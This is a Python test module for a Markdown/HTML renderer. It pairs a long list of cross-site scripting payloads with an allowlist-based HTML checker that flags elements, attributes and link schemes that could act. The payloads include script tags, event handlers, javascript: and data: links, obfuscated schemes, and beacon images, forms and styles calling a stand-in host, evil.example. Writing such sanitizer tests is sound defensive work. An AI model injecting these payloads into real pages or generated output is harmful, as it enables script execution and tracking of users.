"""Answers that want more than to be read, and a reader of HTML that finds out whether they got it."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = [
    # raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/beacon.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">click</math>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><button>send</button></form>",
    "<object data=https://evil.example></object>",
    '<a href="javascript:alert(1)">x</a>',
    "<a\nhref=javascript:alert(1)>x</a>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "</div></details><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "\\<script>alert(1)</script>",
    "\\\\<script>alert(1)</script>",
    # entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x202E;gnp.exe",
    # links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x]()",
    "![x]()",
    "[x](\\\\evil.example)",
    "[x](../api/shutdown)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]: <javascript:alert(1)>\n\n[r]",
    "[r]:\n   javascript:alert(1)\n\n[r]",
    "> [r]: javascript:alert(1)\n\n[r]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<ftp://evil.example>",
    '[x](https://ok.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x](https://ok.example/'onmouseover=alert(1))",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/`onmouseover=alert`)",
    "[![i](javascript:alert(1))](javascript:alert(2))",
    "[a [b](javascript:alert(1)) c](https://ok.example)",
    # images
    "![x](https://evil.example/beacon.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![" onerror="alert(1)](https://evil.example/x.png)',
    "![<script>alert(1)</script>](https://evil.example/x.png)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "\\![x](https://evil.example/x.png)",
    "\\\\![x](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://ok.example)",
    # code
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```py onload=alert(1)\nx\n```",
    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``<img src=x onerror=alert(1)>`",
    "- ```html\n  <img src=x onerror=alert(1)>\n  ```",
    "> ```\n> <img src=x onerror=alert(1)>\n> ```",
    "```\n</code></pre><script>alert(1)</script>",
    # formulas
    "$<script>alert(1)</script>$",
    "$x<img src=x onerror=alert(1)>$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "$\\require{html}\\style{background:url(https://evil.example)}{x}$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "$a\\) <script>alert(1)</script> \\(b$",
    # tables, headings, nesting
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:--" onload=alert(1)|\n| x |',
    "| [x](javascript:alert(1)) | `<b>` \\| |\n|---|---|\n| x | y |",
    "# <img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>\n===",
    "1. > - <script>alert(1)</script>",
    "**<script>**alert(1)**</script>**",
    # places where one renderer sees code or a formula and another does not
    "$`$ `<img src=x onerror=alert(1)>`",
    "$x\n  ```\ny$\n<img src=x onerror=alert(1)>\n  ```",
    "$$\n```\n$$\n\n```\n<img src=x onerror=alert(1)>\n```",
    "- a\n\n ```\n <img src=x onerror=alert(1)>\n ```",
    "```a`b\n\n```\n<img src=x onerror=alert(1)>\n```",
    "\\`<img src=x onerror=alert(1)>`",
    "<!--\n```\n--><img src=x onerror=alert(1)>\n```",
    "`a\n\n`<img src=x onerror=alert(1)>`",
]

ELEMENTS = set(
    "p br hr h1 h2 h3 h4 h5 h6 ul ol li blockquote pre code em strong s a table thead tbody tr th td span div".split()
)
ATTRIBUTES = {"href", "rel", "target", "class", "start"}
SCHEMES = {"http", "https", "mailto"}


@dataclass
class Page(HTMLParser):
    """What a browser would find in a piece of HTML."""

    text: str = ""
    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.elements.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.elements.append(("declaration", {}))

    def handle_pi(self, data: str) -> None:
        self.elements.append(("instruction", {}))

    def unknown_decl(self, data: str) -> None:
        self.elements.append(("declaration", {}))


def read(html: str) -> Page:
    page = Page()
    page.feed(html)
    page.close()
    return page


def faults(html: str, attributes: set[str] = ATTRIBUTES, schemes: set[str] = SCHEMES) -> list[str]:
    """Name whatever in `html` could act."""
    found = []
    for tag, attrs in read(html).elements:
        if tag not in ELEMENTS:
            found.append(f"element {tag}")
        found += [f"{tag} with {name}" for name in attrs.keys() - attributes]
        addresses = [attrs[name] or "" for name in ("href", "src") if name in attrs]
        found += [f"{tag} to {address}" for address in addresses if urlsplit(address.strip()).scheme not in schemes]
    return found
